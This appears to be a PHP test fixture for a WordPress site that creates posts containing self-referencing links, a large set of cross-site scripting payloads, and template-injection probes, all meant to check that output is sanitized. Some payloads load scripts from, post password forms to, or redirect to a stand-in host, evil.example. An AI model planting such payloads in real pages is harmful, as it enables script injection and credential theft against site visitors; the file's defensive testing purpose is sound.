<?php
/**
 * Posts with what a page must not let through: the site's own address, and markup that would run.
 *
 * Anything that runs sets `window.pwned`. The administrator may store all of it as it is.
 */

$rig_host = untrailingslashit( home_url() );
$rig_wide = wp_get_attachment_url( rig_id( 'image_wide' ) );

rig_post(
	'absolute_links_post',
	array(
		'post_title'   => 'Links to this very host',
		'post_name'    => 'absolute-links',
		'post_excerpt' => "An excerpt with <a href=\"$rig_host/\">a link</a>.",
		'post_date'    => '2024-04-01 09:00:00',
		'post_content' => implode(
			"\n\n",
			array(
				rig_block( 'paragraph', "<p><a href=\"$rig_host/\">Home</a>, <a href=\"" . get_permalink( rig_id( 'archive_1' ) ) . '#part">a post</a>, <a href="' . $rig_host . '/?p=' . rig_id( 'archive_2' ) . "\">by id</a>, <a href=\"$rig_host/wp-admin/\">the admin</a>, <a href=\"$rig_host/wp-login.php?redirect_to=" . rawurlencode( "$rig_host/" ) . '">log in</a>, <a href="/?s=tide">relative</a>, <a href="//' . wp_parse_url( $rig_host, PHP_URL_HOST ) . ':' . wp_parse_url( $rig_host, PHP_URL_PORT ) . '/">without a scheme</a>, <a href="' . str_replace( 'http:', 'https:', $rig_host ) . '/">with https</a>.</p>' ),
				rig_block( 'html', "<img src=\"$rig_wide\" srcset=\"$rig_wide 1600w, $rig_host/missing.jpg 800w\" sizes=\"100vw\" alt=\"\"><a href=\"$rig_wide\" data-full=\"$rig_wide\">picture</a><p style=\"background-image:url('$rig_wide')\">In CSS</p><form action=\"$rig_host/\" method=\"get\"><input name=\"s\"></form>" ),
				rig_block( 'paragraph', "<p>In the text: $rig_host/about</p>" ),
			)
		),
	)
);

rig_post(
	'hostile_post',
	array(
		'post_title'   => 'Hostile content',
		'post_name'    => 'hostile',
		'post_date'    => '2024-04-02 09:00:00',
		'post_content' => rig_block(
			'html',
			<<<'HTML'
<p>HOSTILE-BEGIN</p>
<script>window.pwned=1</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="window.pwned=2">
<a href="javascript:window.pwned=3">javascript link</a>
<a href=" java&#x0A;script:window.pwned=3">broken up</a>
<a href="data:text/html,<script>window.pwned=4</script>">data link</a>
<a href="vbscript:msgbox(1)">vbscript link</a>
<svg onload="window.pwned=5"><script>window.pwned=5</script><a xlink:href="javascript:window.pwned=5"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=6"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.pwned=7</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/"><input name="password" autofocus onfocus="window.pwned=8"><button>Send</button></form>
<style>body{display:none} p{background:url(https://evil.example/x)}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<p style="position:fixed;inset:0;background:url(javascript:window.pwned=9);behavior:url(x)">Covering everything</p>
<p onclick="window.pwned=10" onmouseover=window.pwned=10>Handlers</p>
<details open ontoggle="window.pwned=11"><summary>Toggle</summary></details>
<video><source onerror="window.pwned=12" src=x></video>
<noscript><p title="</noscript><img src=x onerror=window.pwned=13>"></noscript>
<template><script>window.pwned=14</script></template>
<p id="location" name="document">Clobbering</p>
<!--><img src=x onerror=window.pwned=15>-->
<p>HOSTILE-END <b>unclosed <i>crossed</b> over</i>
<div></p></table><td>stray cell</div>
HTML
		),
	)
);

rig_post( 'template_injection_post', array( 'post_title' => 'A template in the text', 'post_name' => 'template-injection', 'post_content' => '<p>{{ config.items() }} {% for x in [1] %}{{ x }}{% endfor %} ${7*7} &lt;%= 7 %&gt; #{7*7}</p>', 'post_date' => '2024-04-03 09:00:00' ) );
